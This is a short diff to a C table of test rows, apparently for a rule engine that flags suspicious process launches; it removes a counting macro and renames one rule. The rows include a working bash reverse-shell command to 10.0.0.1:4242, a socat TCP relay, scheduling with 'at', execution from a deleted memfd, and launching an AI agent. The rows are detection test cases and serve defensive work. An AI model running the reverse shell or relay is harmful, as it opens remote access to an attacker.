@@ -10,8 +10,7 @@
  * forms that a rule is dodged by do not get by. SHIPPED is their folder.
  */
 
-#define COUNT(_rows) (sizeof(_rows) / sizeof((_rows)[0]))
-#define MAX_WORDS    8
+#define MAX_WORDS 8
 
 struct exec_row {
 	const char *rule; /* that must decide; NULL: none */
@@ -100,7 +99,7 @@ static const struct exec_row execs[] = {
 	 "image",
 	 "/usr/bin/dash",
 	 {"bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"}},
-	{"ex.raw-tunnel", "/usr/bin/socat", "image", "/usr/bin/bash", {"cat", "-", "tcp:h:1"}},
+	{"ex.relay-address", "/usr/bin/socat", "image", "/usr/bin/bash", {"cat", "-", "tcp:h:1"}},
 	{"sr.start-agent", "/usr/bin/node", "image", "/usr/bin/bash", {"claude", "-p", "x"}},
 	{"sr.schedule-later", "/usr/bin/at", "image", "/usr/bin/bash", {"at", "now"}},
 	{"sr.nameless-program", "/memfd:x (deleted)", "memfd", "/usr/bin/python3.11", {"x"}},
